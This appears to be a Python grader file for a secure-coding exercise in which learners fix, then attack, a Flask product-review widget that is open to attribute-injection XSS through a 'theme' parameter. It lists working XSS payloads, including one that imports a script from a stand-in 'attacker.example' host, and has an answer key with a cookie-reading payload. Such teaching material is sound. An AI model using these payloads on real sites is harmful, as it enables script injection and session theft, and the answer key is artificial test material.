from flask import Flask
from page import scripts_of, tags_of


def open_page(code, **query):
    review = code.Review('Ada "A."', 4, "<i>It's</i> bright")
    lamp = code.Product("lamp-3", "Lamp <3>", [review])

    class Products:
        def find(self, key):
            return lamp if key == "lamp-3" else None

    app = Flask("shop")
    code.add_review_widget(app, Products())
    client = app.test_client()
    assert client.get("/widgets/reviews/none").status_code == 404
    return client.get("/widgets/reviews/lamp-3", query_string=query).get_data(as_text=True)


def works(code):
    html = open_page(code, theme="acme-dark", lang="de")
    tags = {tag["name"]: tag for tag in tags_of(html)}
    assert tags["body"]["attributes"] == {"class": "acme-dark"}
    assert tags["html"]["attributes"] == {"lang": "de"}
    assert tags["blockquote"]["text"] == "<i>It's</i> bright"
    assert tags["a"]["text"] == "Lamp <3>"
    plain = open_page(code, lang="x onload=y")
    assert scripts_of(plain) == []
    assert [tag["attributes"]["class"] for tag in tags_of(plain) if tag["name"] == "body"] == ["light"]


SCRIPT = "import(`//attacker.example/v.js`)"
FORMS = (
    f"dark onload={SCRIPT}",
    f"dark\tonload={SCRIPT}",
    f"dark onpageshow={SCRIPT}",
    f"dark' onload='{SCRIPT}",
    f'dark" onload="{SCRIPT}',
)


def exploit(code, vary=None, payloads=FORMS):
    return any(SCRIPT in scripts_of(open_page(code, theme=theme)) for theme in payloads)


# Attack mode: the learner writes the input.
def attack(code, input, vary):
    lamp = code.Product("lamp-3", "Lamp", [code.Review(vary.name(), 4, "Bright")])

    class Shelf:
        def find(self, key):
            return lamp if key == "lamp-3" else None

    try:
        app = Flask("shop")
        code.add_review_widget(app, Shelf())
        answer = app.test_client().get("/widgets/reviews/lamp-3", query_string={"theme": input["theme"]})
        html = answer.get_data(as_text=True)
    except Exception as error:
        return {"isDone": False, "shown": f"{type(error).__name__}: {error}"}
    scripts = scripts_of(html)
    lines = [f"The browser runs: {script}" for script in scripts] or ["Nothing in this page runs a script."]
    return {"isDone": bool(scripts), "shown": "\n".join([html, "", *lines])}


ATTACKS = [
    {"input": {"theme": "dark onload=alert(document.cookie)"}, "isDone": True},
    {"input": {"theme": "dark"}, "isDone": False},
    {"input": {"theme": "<script>alert(1)</script>"}, "isDone": False},
]
